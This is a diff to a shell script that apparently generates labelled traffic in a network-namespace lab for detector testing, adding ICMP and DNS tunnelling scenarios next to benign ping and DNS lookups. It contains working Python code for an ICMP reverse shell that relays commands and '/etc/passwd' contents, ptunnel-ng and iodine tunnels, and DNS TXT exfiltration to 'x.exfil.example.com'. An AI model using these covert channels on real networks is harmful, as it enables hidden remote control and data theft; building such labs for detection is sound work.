@@ -2864,6 +2864,131 @@ scn_pxe_boot_nmap_sU() {
 	start_gw_dnsmasq
 }
 
+# Session 36 (det36a): tunnels in pings and DNS names under the old bars.
+# ptunnel-ng: the proxy on the NAS forwards to a TCP service of its own
+# (port 9000: 150 kB each way), the client on evil tunnels a connection to
+# it through echo requests and replies.
+icmp_data_py='import socket, os, sys
+if sys.argv[1] == "serve":
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 9000)); s.listen(1)
+    c, _ = s.accept(); c.sendall(os.urandom(150000)); n = 0
+    while n < 150000:
+        b = c.recv(65536)
+        if not b: break
+        n += len(b)
+else:
+    c = socket.create_connection(("127.0.0.1", 2222)); c.settimeout(20); c.sendall(os.urandom(150000)); n = 0
+    while n < 150000:
+        b = c.recv(65536)
+        if not b: break
+        n += len(b)'
+scn_icmp_tunnel_ptunnel() {
+	spawn nas "$py" -c "$icmp_data_py" serve
+	spawn nas ptunnel-ng -r127.0.0.1 -R9000 -v 0; local proxy=$!
+	sleep 1
+	spawn evil ptunnel-ng -p "$nas" -l 2222 -r127.0.0.1 -R9000 -v 0; local client=$!
+	sleep 1
+	inns evil timeout 25 "$py" -c "$icmp_data_py" send || true
+	kill "$client" "$proxy" 2>/dev/null || true
+}
+# An icmpsh-like reverse shell written in Python (raw sockets): the PC asks
+# with echo requests carrying its command output in 64-byte chunks, the
+# NAS (its kernel's echo answers off) replies with the next command.
+scn_icmp_tunnel_icmpsh_python() {
+	inns nas sysctl -qw net.ipv4.icmp_echo_ignore_all=1
+	spawn nas "$py" -c 'import socket, struct
+def csum(b):
+    b += bytes(len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff
+cmds = [b"id", b"uname -a", b"cat /etc/passwd", b"ls -la /home", b"ps aux", b"netstat -an"]
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); i = 0
+while True:
+    p, a = s.recvfrom(65535); h = (p[0] & 15) * 4; t, c, _, ident, seq = struct.unpack("!BBHHH", p[h:h + 8])
+    if t != 8: continue
+    body = cmds[i % len(cmds)]; i += 1
+    m = struct.pack("!BBHHH", 0, 0, 0, ident, seq) + body
+    s.sendto(m[:2] + struct.pack("!H", csum(m)) + m[4:], a)'
+	sleep 1
+	inns pc "$py" -c 'import socket, struct, time, subprocess
+def csum(b):
+    b += bytes(len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff
+out = subprocess.run(["sh", "-c", "cat /etc/passwd /etc/services | head -c 4000"], capture_output=True).stdout
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
+for seq in range(60):
+    chunk = out[(seq * 64) % len(out):][:64].ljust(64, b" ")
+    m = struct.pack("!BBHHH", 8, 0, 0, 0x1337, seq) + chunk
+    s.sendto(m[:2] + struct.pack("!H", csum(m)) + m[4:], ("'$nas'", 0))
+    time.sleep(0.1)'
+	inns nas sysctl -qw net.ipv4.icmp_echo_ignore_all=0
+	for p in $(ip netns pids "$P-nas"); do grep -q IPPROTO_ICMP /proc/$p/cmdline 2>/dev/null && kill "$p"; done
+}
+# Benign pings: ping -s 1400 (60 rounds), ping -s 65000 (fragmented), path
+# MTU probes of shrinking sizes (ping -M do), Windows' 32-byte alphabet
+# (raw socket), fping polling 10 hosts 20 rounds.
+scn_benign_icmp_pings() {
+	spawn pc2 fping -q -c 20 -p 100 $(seq -f "$NET.%g" 100 109)
+	inns pc ping -q -c 60 -i 0.05 -s 1400 "$nas" || true
+	inns pc ping -q -c 5 -i 0.3 -s 65000 "$nas" || true
+	for sz in 1472 1400 1300 1200 1000 800 576; do inns pc ping -q -M do -c 2 -i 0.1 -s $sz "$nas" || true; done
+	inns evil "$py" -c 'import socket, struct, time
+def csum(b):
+    b += bytes(len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+for seq in range(40):
+    m = struct.pack("!BBHHH", 8, 0, 0, 1, seq) + b"abcdefghijklmnopqrstuvwabcdefghi"
+    s.sendto(m[:2] + struct.pack("!H", csum(m)) + m[4:], ("'$nas'", 0)); time.sleep(0.05)'
+	sleep 1
+}
+# iodine through A queries (-T A; -r: no raw UDP mode) to iodined on the
+# NAS, a ping and 60 kB of pings through it: the A records a tunnel gets
+# back are CNAME answers, its labels base32 or raw 8-bit.
+scn_dns_tunnel_iodine_a() {
+	spawn nas iodined -f -c -P tend-36a 172.31.36.1 t.tun.example; local srv=$!
+	sleep 1
+	spawn evil iodine -f -r -T A -P tend-36a "$nas" t.tun.example; local cli=$!
+	sleep 6
+	inns evil ping -q -c 30 -i 0.2 -s 1000 172.31.36.1 || true
+	kill "$cli" "$srv" 2>/dev/null || true
+}
+# dnscat2-like exfiltration in Python: TXT queries of three 30-digit hex
+# labels and a counter under x.exfil.example.com to the gateway's resolver.
+scn_dns_exfil_txt_python() {
+	inns pc "$py" -c 'import socket, struct, os, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
+for i in range(40):
+    name = [os.urandom(15).hex(), os.urandom(15).hex(), os.urandom(15).hex(), str(i), "x", "exfil", "example", "com"]
+    q = struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name) + b"\0" + struct.pack("!HH", 16, 1)
+    s.sendto(q, ("'$NET.1'", 53))
+    try: s.recv(512)
+    except OSError: pass
+    time.sleep(0.1)'
+}
+# Benign: a mail server's and an office's lookups with hashed or random
+# labels, 60 rounds to the gateway's resolver: Spamhaus DQS (reversed
+# addresses, domains, HBL hashes under the key), Sophos, McAfee GTI and
+# ESET reputation hashes, AWS ELB, CloudFront, Azure names, Google ad frame
+# hashes, Chrome's random probes, AD SRV, DKIM, a PTR sweep and DNS-SD.
+scn_benign_dns_hashed_lookups() {
+	inns nas "$py" -c 'import socket, struct, os, time, random
+r = random.Random(36); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.05)
+key = "k7a3m9x2q5w8e1r4t6y0u2i3o5"
+def q(i, t, name):
+    m = struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", t, 1)
+    s.sendto(m, ("'$NET.1'", 53))
+    try: s.recv(512)
+    except OSError: pass
+h = lambda n: os.urandom(n).hex()
+for i in range(60):
+    for t, n in [(1, "%d.%d.113.203.%s.zen.dq.spamhaus.net" % (i, r.randrange(256), key)), (1, "sender%d.com.%s.dbl.dq.spamhaus.net" % (i, key)),
+                 (16, "%s._email.%s.hbl.dq.spamhaus.net" % (h(20), key)), (16, "%s.%s.f.sxl.sophosxl.net" % (h(16), h(16))),
+                 (1, "0.0.0.0.1.0.0.4e.%s.avqs.mcafee.com" % h(23)), (1, "%s.%s.a.e5.sk" % (h(20), h(8))),
+                 (1, "internal-app%d-lb-%d.eu-west-1.elb.amazonaws.com" % (i, 1234567890 + i * 7919)), (28, "d%s.cloudfront.net" % h(7)[:13]),
+                 (1, "contoso-web%d.trafficmanager.net" % i), (1, "st%s.blob.core.windows.net" % h(11)), (1, "%s.safeframe.googlesyndication.com" % h(16)),
+                 (1, "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10))), (33, "_ldap._tcp.dc._msdcs.corp.example.com"),
+                 (16, "selector1._domainkey.sender%d.com" % i), (12, "%d.8.88.10.in-addr.arpa" % (i + 100)), (12, "_ipp._tcp.local"), (1, "teams.microsoft.com")]:
+        q(i, t, n)
+    time.sleep(0.1)'
+}
+
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
